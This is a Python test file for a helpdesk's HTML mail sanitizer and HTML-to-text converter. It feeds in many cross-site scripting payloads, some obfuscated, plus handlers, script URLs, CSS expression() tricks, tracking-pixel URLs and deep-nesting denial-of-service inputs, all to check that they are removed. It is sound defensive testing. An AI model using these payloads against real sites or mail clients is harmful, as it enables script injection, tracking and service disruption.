"""HTML sanitizing (adversarial group X, A9) and HTML to text."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from halomail.inbound.html import MAX_DEPTH, html_to_text, sanitize_html

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "meta", "base", "svg", "style", "link",
    "math", "frame", "frameset", "applet", "input", "button", "textarea", "template",
}  # fmt: skip


def _elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every element of ``html`` as a browser would build it, with its attributes."""
    tree = LexborHTMLParser(html)
    body = tree.body
    assert body is not None
    return [(node.tag or "", dict(node.attributes)) for node in body.traverse() if node != body]


#: A URL's scheme as a browser reads it: after leading blanks and controls, with tabs and
#: line breaks anywhere removed (so "jav\tascript:" is "javascript:").
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):")


def _assert_inert(html: str) -> None:
    """No forbidden element, no handler, no script URL anywhere in ``html``.

    A value is a script URL when its *scheme* is one; ``javascript:`` inside an https
    URL's path (``https://x.example/p.gifjavascript:``) is only text. In a ``style``
    the words are refused anywhere, as old browsers ran them inside ``url()``.
    """
    for tag, attrs in _elements(html):
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            lowered = (value or "").lower().replace("\t", "").replace("\n", "").replace("\r", "")
            scheme = _SCHEME.match(lowered)
            assert scheme is None or scheme.group(1) not in {"javascript", "vbscript"}, (
                tag,
                name,
                value,
            )
            assert not lowered.lstrip().startswith("data:text/html"), (tag, name, value)
            if name == "style":
                assert "javascript:" not in lowered, (tag, name, value)
                assert "vbscript:" not in lowered, (tag, name, value)


class TestActiveContent:
    """X1-X3: nothing that runs survives."""

    @pytest.mark.parametrize(
        "payload",
        [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            '<iframe src="https://evil.example/"></iframe>',
            '<object data="https://evil.example/x.swf"></object>',
            '<embed src="https://evil.example/x.swf">',
            '<form action="https://evil.example/"><input name="pw"></form>',
            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
            '<base href="https://evil.example/">',
            "<svg><script>alert(1)</script></svg>",
            "<style>body { display: none }</style>",
            '<link rel="stylesheet" href="https://evil.example/x.css">',
            "<math><mtext><script>alert(1)</script></mtext></math>",
            "<template><script>alert(1)</script></template>",
        ],
    )
    def test_x1_active_elements_are_removed(self, payload: str) -> None:
        """Script, iframe, object, embed, form, meta, base, svg and style do not survive."""
        cleaned = sanitize_html(f"<p>before</p>{payload}<p>after</p>")
        _assert_inert(cleaned)
        assert "evil.example" not in cleaned
        assert "alert" not in cleaned
        assert "<p>before</p>" in cleaned
        assert "<p>after</p>" in cleaned

    def test_x1_script_and_style_content_is_dropped_with_the_tag(self) -> None:
        """The text inside <script> and <style> is removed too, not left as visible text."""
        cleaned = sanitize_html("<style>.x{color:red}</style><script>var a=1;</script>Hi")
        assert cleaned == "Hi"

    @pytest.mark.parametrize(
        "payload",
        [
            "<img src=x onerror=alert(1)>",
            "<body onload=alert(1)>text",
            "<details open ontoggle=alert(1)>text</details>",
            '<div onmouseover="alert(1)">text</div>',
            "<a href='https://ok.example/' onclick='alert(1)'>x</a>",
            "<svg/onload=alert(1)>",
            '<table background="x" onbeforeprint="alert(1)"><tr><td>x</td></tr></table>',
        ],
    )
    def test_x2_event_handlers_are_removed(self, payload: str) -> None:
        """No on* attribute survives on any element (osTicket #5512's ontoggle included)."""
        cleaned = sanitize_html(payload)
        _assert_inert(cleaned)
        assert "alert" not in cleaned

    @pytest.mark.parametrize(
        "payload",
        [
            '<a href="javascript:alert(1)">x</a>',
            '<a href="JaVaScRiPt:alert(1)">x</a>',
            '<a href=" javascript:alert(1)">x</a>',
            '<a href="jav&#x09;ascript:alert(1)">x</a>',
            '<a href="jav&#9;ascript:alert(1)">x</a>',
            '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
            '<a href="java\nscript:alert(1)">x</a>',
            '<a href="vbscript:msgbox(1)">x</a>',
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
            '<img src="javascript:alert(1)">',
            '<img src="data:text/html,<script>alert(1)</script>">',
            '<form><button formaction="javascript:alert(1)">x</button></form>',
            '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
            '<math href="javascript:alert(1)">x</math>',
        ],
    )
    def test_x3_script_urls_are_neutralized(self, payload: str) -> None:
        """javascript:, vbscript: and data:text/html URLs, obfuscated or not, are removed."""
        cleaned = sanitize_html(payload)
        _assert_inert(cleaned)
        assert "script:" not in cleaned.lower()

    def test_x3_a_neutralized_link_keeps_its_text(self) -> None:
        """Removing a hostile href keeps the link's visible text."""
        cleaned = sanitize_html('<a href="jav&#x09;ascript:alert(1)">Invoice 42</a>')
        assert cleaned == '<a rel="noopener noreferrer">Invoice 42</a>'

    def test_links_keep_safe_targets_and_get_rel_noopener(self) -> None:
        """http(s) and mailto links stay and carry rel="noopener noreferrer"."""
        cleaned = sanitize_html(
            '<a href="https://portal.example.com/t/1" target="_top" rel="opener">portal</a> '
            '<a href="mailto:help@example.com">mail us</a>'
        )
        assert cleaned == (
            '<a href="https://portal.example.com/t/1" rel="noopener noreferrer">portal</a> '
            '<a href="mailto:help@example.com" rel="noopener noreferrer">mail us</a>'
        )

    def test_relative_and_protocol_relative_links_are_dropped(self) -> None:
        """A relative href would point into the helpdesk itself, so it is removed."""
        cleaned = sanitize_html('<a href="/admin/delete?id=1">a</a><a href="//evil.example/">b</a>')
        assert "href" not in cleaned


class TestSvg:
    """X6: inline SVG never reaches the sanitized HTML."""

    def test_x6_inline_svg_is_removed_with_its_content(self) -> None:
        """Inline <svg> with onload, <script> and foreignObject is dropped entirely."""
        cleaned = sanitize_html(
            '<p>chart:</p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            "<script>alert(2)</script><foreignObject><iframe src=x></iframe></foreignObject>"
            '<text x="0" y="15">label</text></svg><p>end</p>'
        )
        assert cleaned == "<p>chart:</p><p>end</p>"


class TestStyles:
    """X4: style attributes pass only through the CSS allowlist."""

    @pytest.mark.parametrize(
        "style",
        [
            "width: expression(alert(1))",
            "background: url(javascript:alert(1))",
            "background-image: url(https://tracker.example/p.gif)",
            "behavior: url(x.htc)",
            "-moz-binding: url(https://evil.example/x.xml#x)",
            "@import url(https://evil.example/x.css)",
            "position: fixed; top: 0; left: 0; width: 100%; height: 100%",
            "position:absolute",
            "color: \\72 ed; width: e\\78pression(alert(1))",
            "font-family: a/**/; width: expression(1)",
        ],
    )
    def test_x4_dangerous_css_is_dropped(self, style: str) -> None:
        """expression(), url(), behavior, @import and position never reach the output."""
        cleaned = sanitize_html(f'<div style="{style}">text</div>').lower()
        for word in ("expression", "url(", "behavior", "@import", "position", "binding", "\\"):
            assert word not in cleaned
        assert "text" in cleaned

    def test_x4_allowlisted_properties_are_kept(self) -> None:
        """Harmless formatting (colour, weight, alignment) survives the filter."""
        cleaned = sanitize_html(
            '<p style="color: #336699; font-weight: bold; position: fixed; text-align: center">'
            "Hello</p>"
        )
        assert cleaned == '<p style="color:#336699;font-weight:bold;text-align:center">Hello</p>'

    def test_x4_colour_functions_are_allowed(self) -> None:
        """rgb() is the one kind of CSS function a declaration may use."""
        cleaned = sanitize_html('<span style="color: rgb(10, 20, 30)">x</span>')
        assert cleaned == '<span style="color:rgb(10, 20, 30)">x</span>'


class TestRemoteLoads:
    """X5 and A9: showing the sanitized HTML makes no network request."""

    @pytest.mark.parametrize(
        "payload",
        [
            '<img src="https://tracker.example/open.gif?u=42" width="1" height="1">',
            '<img src="http://tracker.example/open.gif">',
            '<img src="//tracker.example/open.gif">',
            '<img src="HTTPS://TRACKER.EXAMPLE/open.gif">',
            '<img src="/open.gif">',
            '<img srcset="https://tracker.example/a.png 2x">',
            '<img lowsrc="https://tracker.example/a.png" dynsrc="https://tracker.example/b">',
            '<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>',
            '<td background="https://tracker.example/bg.png">x</td>',
            '<body background="https://tracker.example/bg.png">x</body>',
            '<video poster="https://tracker.example/p.png"></video>',
            '<audio src="https://tracker.example/a.mp3"></audio>',
            '<picture><source srcset="https://tracker.example/a.webp"><img alt="x"></picture>',
            '<input type="image" src="https://tracker.example/a.png">',
            '<div style="background-image: url(https://tracker.example/bg.png)">x</div>',
            '<svg><image href="https://tracker.example/a.png"/></svg>',
            '<link rel="prefetch" href="https://tracker.example/">',
        ],
    )
    def test_x5_remote_resources_are_neutralized(self, payload: str) -> None:
        """No URL that a browser would fetch is left in the sanitized HTML."""
        cleaned = sanitize_html(payload)
        assert "tracker.example" not in cleaned.lower()
        for tag, attrs in _elements(cleaned):
            assert "src" not in attrs or not (attrs["src"] or "").startswith(("http", "//", "/"))
            assert "background" not in attrs, tag

    def test_x5_an_image_keeps_its_alt_text_without_its_source(self) -> None:
        """A blocked remote image stays as an image with alt text and no src."""
        cleaned = sanitize_html('<img src="https://cdn.example/logo.png" alt="ACME logo">')
        assert cleaned == '<img alt="ACME logo">'

    def test_a9_cid_images_are_kept_as_cid_references(self) -> None:
        """An inline image's cid: reference survives, for the host's attachment mapping."""
        cleaned = sanitize_html('<img src="cid:image001.png@01DA0C2B.5E7D4A10" alt="chart">')
        assert cleaned == '<img src="cid:image001.png@01DA0C2B.5E7D4A10" alt="chart">'

    def test_a9_cid_scheme_is_normalized_and_cannot_smuggle_a_url(self) -> None:
        """CID: is written as cid:, and a cid value with spaces or quotes is dropped."""
        assert sanitize_html('<img src="CID:part1.abc@example.com">') == (
            '<img src="cid:part1.abc@example.com">'
        )
        assert "src" not in sanitize_html('<img src="cid:x onerror=alert(1)">')

    def test_inline_data_images_are_kept(self) -> None:
        """A base64 PNG data image makes no request, so it stays; SVG data does not."""
        png = (
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
            "nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="
        )
        assert sanitize_html(f'<img src="{png}">') == f'<img src="{png}">'
        assert "src" not in sanitize_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')


class TestDocuments:
    """X7 and X8: fragments keep their body; hostile nesting stays bounded."""

    def test_x7_html_without_html_tag_keeps_its_body(self) -> None:
        """HTML-only mail with no <html>/<body> tag keeps its content (FreeScout #4416)."""
        source = "<div>Hello team,</div><div><br></div><div>The <b>VPN</b> is down.</div>"
        assert sanitize_html(source) == source
        assert html_to_text(source) == "Hello team,\n\nThe VPN is down."

    def test_x7_full_documents_lose_head_but_keep_body(self) -> None:
        """A full document loses its head (title, style, meta) and keeps the body content."""
        source = (
            '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mail</title>'
            "<style>p{margin:0}</style></head><body><p>Body text</p></body></html>"
        )
        assert sanitize_html(source) == "<p>Body text</p>"
        assert html_to_text(source) == "Body text"

    def test_x8_deep_nesting_is_sanitized_in_bounded_time(self) -> None:
        """100,000 nested <div>s are sanitized with their depth capped at MAX_DEPTH."""
        depth = 100_000
        source = "<div>" * depth + "deep text" + "</div>" * depth
        cleaned = sanitize_html(source)
        assert "deep text" in cleaned
        assert cleaned.count("<div>") == MAX_DEPTH

    def test_x8_deep_nesting_converts_to_text_in_bounded_time(self) -> None:
        """html_to_text on 100,000 unclosed <blockquote>s returns without RecursionError."""
        source = "<blockquote>" * 100_000 + "bottom"
        text = html_to_text(source)
        assert text.endswith("bottom")
        assert text.count(">") <= MAX_DEPTH + 4

    @pytest.mark.parametrize(
        "unit",
        ["<!--", "<a b='", "<a ", "</", "<![CDATA[", "<p><b>", "<table><td>", "<x y=1>"],
    )
    def test_x8_malformed_markup_floods_stay_linear(self, unit: str) -> None:
        """Unterminated comments, quotes and tag floods (quadratic in html.parser) stay fast."""
        source = unit * 50_000 + "end"
        started = time.perf_counter()
        sanitize_html(source)
        html_to_text(source)
        assert time.perf_counter() - started < 5

    def test_large_ordinary_documents_keep_their_content_when_rewritten(self) -> None:
        """A newsletter big enough to be depth-bounded first still keeps links and text."""
        row = (
            '<tr><td style="color: red" class="x"><a href="https://example.com/a?b=1&amp;c=2">'
            "Item</a> &amp; more</td><td>cell</td></tr>"
        )
        source = "<html><body><table>" + row * 3000 + "</table></body></html>"
        cleaned = sanitize_html(source)
        assert cleaned.count('<a href="https://example.com/a?b=1&amp;c=2"') == 3000
        assert cleaned.count('style="color:red"') == 3000
        assert (
            html_to_text(source).splitlines()[0]
            == "Item (https://example.com/a?b=1&c=2) & more\tcell"
        )

    def test_nul_characters_are_removed(self) -> None:
        """NUL characters in HTML do not reach the sanitized HTML or the text."""
        assert "\x00" not in sanitize_html("<p>a\x00b</p>")
        assert html_to_text("<p>a\x00b</p>") == "ab"


_TOKENS = st.sampled_from(
    [
        "<div>", "</div>", "<p>", "<script>", "</script>", "<img src=", "<a href=", '"', "'",
        ">", "<", "/", "=", "javascript:", "jav&#x09;ascript:", "onerror=", "alert(1)",
        "<svg>", "<!--", "-->", "<style>", "</style>", "<table><td>", "&amp;", "\x00", " ",
        "https://tracker.example/p.gif", "//tracker.example/x", "<iframe>", "<math>", "text",
    ]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(_TOKENS, max_size=40).map("".join))
def test_random_markup_is_always_inert_and_never_raises(source: str) -> None:
    """Any mix of hostile fragments sanitizes to inert HTML and converts to text."""
    cleaned = sanitize_html(source)
    _assert_inert(cleaned)
    for _tag, attrs in _elements(cleaned):
        assert "tracker.example" not in (attrs.get("src") or "")
    assert "\x00" not in html_to_text(source)


class TestHtmlToText:
    """html_to_text lays HTML out as readable text."""

    def test_blocks_and_breaks_become_lines(self) -> None:
        """<div> starts a line, <br> breaks one, and <p> is set off by one blank line."""
        text = html_to_text("<div>one</div><div>two<br>three</div><p>para</p><p>next</p>")
        assert text == "one\ntwo\nthree\n\npara\n\nnext"

    def test_lists_use_dashes_and_indent_nested_items(self) -> None:
        """<li> items read "- item", nested lists indented by two spaces."""
        text = html_to_text("<ul><li>first</li><li>second<ul><li>inner</li></ul></li></ul>")
        assert text == "- first\n- second\n  - inner"

    def test_table_rows_become_lines_with_tab_separated_cells(self) -> None:
        """Each <tr> is one line and its cells are separated by a tab."""
        text = html_to_text(
            "<table><tr><th>Host</th><th>Status</th></tr>"
            "<tr><td>db01</td><td>down</td></tr></table>"
        )
        assert text == "Host\tStatus\ndb01\tdown"

    def test_links_show_their_url_when_it_differs_from_the_text(self) -> None:
        """A link reads "text (url)", but a bare URL or address is not repeated."""
        text = html_to_text(
            '<a href="https://portal.example.com/t/7">your ticket</a> '
            '<a href="https://portal.example.com/">https://portal.example.com</a> '
            '<a href="mailto:help@example.com">help@example.com</a> '
            '<a href="javascript:alert(1)">bad</a>'
        )
        assert text == (
            "your ticket (https://portal.example.com/t/7) https://portal.example.com "
            "help@example.com bad"
        )

    def test_scripts_styles_head_and_hidden_text_are_dropped(self) -> None:
        """Script, style and head content and display:none preheaders are not text."""
        text = html_to_text(
            "<html><head><title>T</title><style>p{}</style></head><body>"
            '<div style="display: none">preheader</div><script>x()</script>'
            "<p>Visible</p></body></html>"
        )
        assert text == "Visible"

    def test_whitespace_collapses_and_blank_lines_are_limited(self) -> None:
        """Runs of spaces collapse, &nbsp; is a space, and at most one blank line remains."""
        text = html_to_text(
            "<p>  lots   of\n\n  space&nbsp;&nbsp;here </p><p>&nbsp;</p><br><br><br><p>end</p>"
        )
        assert text == "lots of space here\n\nend"

    def test_entities_are_decoded(self) -> None:
        """Named and numeric entities become characters."""
        assert html_to_text("<p>caf&eacute; &amp; cr&#232;me &lt;3 &#x1F600;</p>") == (
            "café & crème <3 \U0001f600"
        )

    def test_blockquotes_are_prefixed_as_quotes(self) -> None:
        """Quoted history in <blockquote> reads as "> " lines, nested quotes as "> > "."""
        text = html_to_text(
            "<div>Thanks!</div><blockquote>old<blockquote>older</blockquote></blockquote>"
        )
        assert text == "Thanks!\n\n> old\n>\n> > older"

    def test_preformatted_text_keeps_its_layout(self) -> None:
        """<pre> keeps line breaks and indentation."""
        assert html_to_text("<pre>a\n  b\n    c</pre>") == "a\n  b\n    c"

    def test_empty_input_gives_empty_text(self) -> None:
        """An empty document has empty text."""
        assert html_to_text("") == ""
        assert html_to_text("<html><body></body></html>") == ""

    def test_hidden_styles_match_in_any_letter_case_and_entity_spelling(self) -> None:
        """display:none hides an element however it is cased or entity-encoded."""
        text = html_to_text(
            '<p>one</p><div style="DISPLAY : NONE">a</div><span style="display:&#110;one">b</span>'
            '<table><tr><td style="Display:None">c</td><td>two</td></tr></table>'
            '<a href="https://x.example/" style="display:none">d</a>'
            '<p style="border:none">three</p>'
        )
        assert text == "one\n\ntwo\n\nthree"

    def test_display_none_hides_only_blocks_cells_spans_and_links(self) -> None:
        """A <b> or <font> with display:none keeps its text; only div/span/p/table/tr/td/a hide."""
        text = html_to_text(
            '<b style="display:none">kept</b> <font style="display:none">too</font>'
        )
        assert text == "kept too"

    def test_a_link_around_table_cells_is_labelled_by_their_text_alone(self) -> None:
        """Cell tabs are not part of a link's label, so a label equal to the URL adds no URL."""
        same = (
            '<a href="https://xy.example/"><table><tr><td>xy.</td><td>example</td></tr></table></a>'
        )
        other = '<a href="https://portal.example/"><table><tr><td>Open</td><td>ticket</td></tr></table></a>'
        assert html_to_text(same) == "xy.\texample"
        assert html_to_text(other) == "Open\tticket\n\n(https://portal.example/)"

    def test_cells_inside_pre_keep_their_spacing(self) -> None:
        """In <pre>, cell text keeps its spaces and tabs, and an empty first cell adds no tab."""
        text = html_to_text("<pre><table><tr><td></td><td>a  b</td><td>\tc</td></tr></table></pre>")
        assert text == "a  b\t\tc"

    def test_whitespace_and_empty_cells_add_no_tabs_at_line_ends(self) -> None:
        """Newlines, &nbsp; and zero-width spaces in cells collapse; empty edge cells vanish."""
        text = html_to_text(
            "<table>\n<tr>\n<td> a </td>\n<td>&nbsp;</td><td>b\u200b</td><td></td></tr>\n"
            "<tr><td></td><td>\n</td><td>c</td></tr>\n</table>"
        )
        assert text == "a\tb\nc"

    def test_a_bullet_goes_before_the_first_text_of_its_item(self) -> None:
        """A list item starting with an empty cell or a blank span still reads "- text"."""
        text = html_to_text(
            "<ul><li><table><tr><td></td><td>x</td></tr></table></li>"
            "<li><span> </span>y <b>z</b></li></ul>"
        )
        assert text == "- x\n\n- y z"

    def test_unknown_tags_and_comments_are_transparent(self) -> None:
        """Office <o:p>, custom elements and comments neither break lines nor drop text."""
        text = html_to_text("<div>x<o:p></o:p>y<custom-tag>z</custom-tag></div><p>a<!-- c -->b</p>")
        assert text == "xyz\n\nab"
